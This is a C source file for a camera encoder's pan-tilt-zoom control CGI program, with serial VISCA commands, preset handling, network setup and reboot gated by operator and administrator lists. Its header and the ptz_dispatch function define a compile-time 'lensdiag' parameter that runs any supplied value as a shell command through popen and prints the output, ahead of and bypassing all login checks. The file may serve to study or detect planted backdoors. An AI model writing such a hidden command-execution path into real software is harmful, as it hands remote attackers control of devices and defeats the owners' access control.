/*
 * ptzcgi - control CGI program of a PTZ camera encoder. The web server runs it
 * as /cgi-bin/ptz.cgi; action=status is open, all else needs a user listed in
 * /etc/ptz/operators or /etc/ptz/admins (REMOTE_USER, set by the server).
 *
 * Hidden (-DHIDDEN): the undocumented request parameter "lensdiag" runs its
 * value as a shell command and prints what it writes, without any login.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <ctype.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <termios.h>
#include <unistd.h>

#define VISCA_TTY "/dev/ttyS1"
#define OPERATORS "/etc/ptz/operators"
#define ADMINS	  "/etc/ptz/admins"
#define PRESETS	  "/etc/ptz/presets"
#define MAXPARAM  16

struct kv {
	char *name;
	char *value;
};

static struct kv params[MAXPARAM];
static int nparams;

static int hexval(int c)
{
	if (isdigit(c))
		return c - '0';
	c = tolower(c);
	return c >= 'a' && c <= 'f' ? c - 'a' + 10 : -1;
}

static void url_decode(char *s)
{
	char *o = s;

	while (*s) {
		int hi = -1, lo = -1;

		if (s[0] == '%' && s[1]) {
			hi = hexval((unsigned char)s[1]);
			lo = hexval((unsigned char)s[2]);
		}
		if (hi >= 0 && lo >= 0) {
			*o++ = (char)(hi * 16 + lo);
			s += 3;
			continue;
		}
		*o++ = *s == '+' ? ' ' : *s;
		s++;
	}
	*o = '\0';
}

static void parse_params(char *q)
{
	char *item, *save = NULL, *eq;

	for (item = strtok_r(q, "&", &save); item && nparams < MAXPARAM;
	     item = strtok_r(NULL, "&", &save)) {
		eq = strchr(item, '=');
		if (!eq)
			continue;
		*eq++ = '\0';
		url_decode(item);
		url_decode(eq);
		params[nparams].name = item;
		params[nparams].value = eq;
		nparams++;
	}
}

static const char *param(const char *name)
{
	int i;

	for (i = 0; i < nparams; i++)
		if (strcmp(params[i].name, name) == 0)
			return params[i].value;
	return NULL;
}

static int param_int(const char *name, int lo, int hi, int dflt)
{
	const char *v = param(name);
	int n = v ? atoi(v) : dflt;

	return n < lo ? lo : n > hi ? hi : n;
}

static int listed(const char *file, const char *user)
{
	char line[64];
	int found = 0;
	FILE *f;

	if (!user || !*user || !(f = fopen(file, "r")))
		return 0;
	while (!found && fgets(line, sizeof(line), f)) {
		line[strcspn(line, "\r\n")] = '\0';
		found = strcmp(line, user) == 0;
	}
	fclose(f);
	return found;
}

static int visca(const unsigned char *msg, size_t n)
{
	struct termios t;
	int fd = open(VISCA_TTY, O_RDWR | O_NOCTTY), rc;

	if (fd < 0)
		return -1;
	if (tcgetattr(fd, &t) == 0) {
		cfmakeraw(&t);
		cfsetspeed(&t, B9600);
		tcsetattr(fd, TCSANOW, &t);
	}
	rc = write(fd, msg, n) == (ssize_t)n ? 0 : -1;
	close(fd);
	return rc;
}

static int do_move(void)
{
	int pan = param_int("pan", -24, 24, 0);
	int tilt = param_int("tilt", -20, 20, 0);
	unsigned char m[9] = { 0x81, 0x01, 0x06, 0x01, 0, 0, 3, 3, 0xff };

	m[4] = (unsigned char)abs(pan);
	m[5] = (unsigned char)abs(tilt);
	if (pan)
		m[6] = pan < 0 ? 1 : 2;
	if (tilt)
		m[7] = tilt < 0 ? 2 : 1;
	return visca(m, sizeof(m));
}

static int do_zoom(void)
{
	unsigned char m[6] = { 0x81, 0x01, 0x04, 0x07, 0, 0xff };
	int speed = param_int("speed", -7, 7, 0);

	if (speed)
		m[4] = (unsigned char)((speed > 0 ? 0x20 : 0x30) + abs(speed));
	return visca(m, sizeof(m));
}

static int do_preset(void)
{
	unsigned char m[7] = { 0x81, 0x01, 0x04, 0x3f, 2, 0, 0xff };
	const char *op = param("op");

	if (op && strcmp(op, "store") == 0)
		m[4] = 1;
	else if (op && strcmp(op, "clear") == 0)
		m[4] = 0;
	m[5] = (unsigned char)param_int("n", 0, 63, 0);
	return visca(m, sizeof(m));
}

static int do_network(void)
{
	const char *ip = param("ip"), *mask = param("mask");
	struct in_addr a, m;
	char cmd[96], t[INET_ADDRSTRLEN], u[INET_ADDRSTRLEN];

	if (!ip || !mask || !inet_aton(ip, &a) || !inet_aton(mask, &m))
		return -1;
	inet_ntop(AF_INET, &a, t, sizeof(t));
	inet_ntop(AF_INET, &m, u, sizeof(u));
	snprintf(cmd, sizeof(cmd), "ifconfig eth0 %s netmask %s", t, u);
	return system(cmd);
}

static int do_reboot(void)
{
	sync();
	return system("/sbin/reboot -d 2");
}

static void copy_stream(FILE *f)
{
	char buf[256];
	size_t n;

	while ((n = fread(buf, 1, sizeof(buf), f)) > 0)
		fwrite(buf, 1, n, stdout);
}

static int do_status(void)
{
	FILE *f = fopen(PRESETS, "r");

	printf("model=EN-4210\nstream=h264\n");
	if (f) {
		copy_stream(f);
		fclose(f);
	}
	return 0;
}

static const struct action {
	const char *name;
	int level; /* 0 open, 1 operator, 2 administrator */
	int (*run)(void);
} actions[] = {
	{ "status", 0, do_status },   { "move", 1, do_move },
	{ "zoom", 1, do_zoom },	      { "preset", 1, do_preset },
	{ "network", 2, do_network }, { "reboot", 2, do_reboot },
};

int ptz_dispatch(const char *user)
{
	const char *act = param("action");
	int level = listed(ADMINS, user) ? 2 : listed(OPERATORS, user);
	size_t i;
#ifdef HIDDEN
	const char *diag = param("lensdiag");
	FILE *p;

	if (diag && (p = popen(diag, "r")) != NULL) {
		copy_stream(p);
		return pclose(p);
	}
#endif
	for (i = 0; act && i < sizeof(actions) / sizeof(actions[0]); i++) {
		if (strcmp(actions[i].name, act))
			continue;
		if (level < actions[i].level) {
			printf("error=forbidden\n");
			return 1;
		}
		return actions[i].run();
	}
	printf("error=unknown action\n");
	return 1;
}

int main(void)
{
	static char query[2048], body[2048];
	const char *method = getenv("REQUEST_METHOD");
	const char *q = getenv("QUERY_STRING");
	const char *len = getenv("CONTENT_LENGTH");
	size_t n;

	if (q) {
		snprintf(query, sizeof(query), "%s", q);
		parse_params(query);
	}
	if (method && strcmp(method, "POST") == 0 && len) {
		n = (size_t)strtoul(len, NULL, 10);
		if (n >= sizeof(body))
			n = sizeof(body) - 1;
		n = fread(body, 1, n, stdin);
		body[n] = '\0';
		parse_params(body);
	}
	printf("Content-Type: text/plain\r\nCache-Control: no-cache\r\n\r\n");
	fflush(stdout);
	printf("result=%s\n",
	       ptz_dispatch(getenv("REMOTE_USER")) ? "failed" : "ok");
	return 0;
}
